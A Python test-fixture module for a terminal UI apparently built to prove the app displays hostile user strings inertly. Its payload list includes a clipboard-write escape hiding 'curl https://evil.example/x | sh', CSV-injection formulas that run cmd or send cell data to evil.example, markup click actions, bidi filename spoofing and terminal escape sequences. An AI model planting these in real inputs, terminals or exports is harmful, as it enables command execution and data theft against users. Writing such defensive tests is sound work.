"""Hostile strings for the ``hostile`` fault mode: what a malicious uploader could type.

With ``FaultConfig.hostile`` on, a deterministic subset of orders (about one in seven, always
including the newest initial order so it is on the first screen) carries these payloads in
every user-controlled string: titles, usernames, emails, ``ordered_by``, tags, asset names,
annotation bodies, failed items, layer names and ``reviewed_by``; one project name is poisoned
too. The payloads cover Rich/Textual markup, CSI/OSC/DCS/APC escape sequences, 8-bit C1
controls, bidi overrides, zero-width characters, a lone surrogate, a bare carriage return,
stacked combining marks, invisible fillers, piled variation selectors, spreadsheet formulas
and a 100 KB string. The console must show all of them as inert text (see
:mod:`artistree_tui.display`), and an exported CSV must not run the formulas.
"""

from __future__ import annotations

import base64
from typing import Any

from artistree_tui.demo.ids import unit

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"
_CLIPBOARD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode("ascii")

#: About 100 KB of text that also opens a style it never closes.
HUGE = "[b]" + "all work and no play " * 4800

PAYLOADS: tuple[str, ...] = (
    "[b]bold[/b] and a stray [/] close tag",
    "[@click=app.quit]Approve all[/]",
    "[link=https://evil.example/login]Open certificate[/link]",
    f"{ESC}[31;1mRED ALERT{ESC}[0m colour codes",
    f"{ESC}]52;c;{_CLIPBOARD}{BEL}clipboard write",
    f"{ESC}]8;;https://evil.example/{ST}innocent link{ESC}]8;;{ST}",
    f"{ESC}]0;window title hijack{BEL}title",
    f"{ESC}P+q544e{ST}DCS query",
    f"{ESC}_Gf=100,a=T;AAAA{ST}APC graphics",
    "\x9b2J\x9d0;C1 title\x9c 8-bit C1 controls",
    "invoice\u202egpj.exe bidi override",
    "zero\u200bwidth\u200djoin\ufeffers\u2066isolate",
    "line one\nline two\rOVERWRITE\x08\x07\x00 controls",
    "half an emoji \ud83d lone surrogate",
    f"{ESC}[2J{ESC}[H screen clear {ESC}[?1049h alt screen",
    # Spreadsheet formulas (CSV injection): what a cell of an exported CSV must not run.
    '=HYPERLINK("https://evil.example/?d="&A1,"Verify") formula',
    "@SUM(1+9)*cmd|' /C calc'!A0 formula",
    "\t+cmd|' /C calc'!A0 -2+3 formula after a tab",
    "approved\rREJECTED carriage return",
    "zalgo" + "\u0489" * 298 + " stacked marks",
    "fill\u115f\u1160\u3164\uffa0\u034fers invisible fillers, and selector smuggling \U0001f600"
    + "\ufe01\U000e0105\U000e0142" * 20,
    HUGE,
)
# The payloads are dealt out by index * 5 modulo their number: keep that number prime to 5,
# or some payloads (the 100 KB one) never land in some fields.

_FIELDS = ("order_title", "username", "email", "ordered_by", "asset_name", "reviewed_by")
_SHARE = 1 / 7


def is_hostile(seed: int, index: int, newest_initial: int) -> bool:
    """Whether order ``index`` is in the hostile subset (deterministic per seed)."""
    return index == newest_initial or unit(seed, index, 99) < _SHARE


def payload(index: int, slot: int) -> str:
    """The payload for field ``slot`` of order ``index``: every payload shows up somewhere."""
    return PAYLOADS[(index * 5 + slot) % len(PAYLOADS)]


def poison(order: dict[str, Any], index: int) -> None:
    """Put payloads into every user-controlled string of a full order dict, in place."""
    for slot, name in enumerate(_FIELDS):
        if isinstance(order.get(name), str):
            order[name] = f"{payload(index, slot)} {order[name]}"
    slot = len(_FIELDS)
    order["tags"] = [*order.get("tags", []), payload(index, slot)]
    if order.get("analysis_failed_items"):
        order["analysis_failed_items"] = [payload(index, slot + 1), *order["analysis_failed_items"]]
    for n, layer in enumerate(order.get("layers_info") or []):
        layer["layer_name"] = f"{payload(index, slot + 2 + n)} {layer['layer_name']}"
    for n, annotation in enumerate(order.get("annotations") or []):
        bodies = annotation.get("bodies") or []
        if bodies:
            bodies[0]["value"] = f"{payload(index, slot + 3 + n)} {bodies[0]['value']}"


def project_name(name: str) -> str:
    """A poisoned project name (for the sidebar and ``project.name``)."""
    return f"[b]{name}[/b] {ESC}]0;pwned{BEL}\u202e{ESC}[5m"
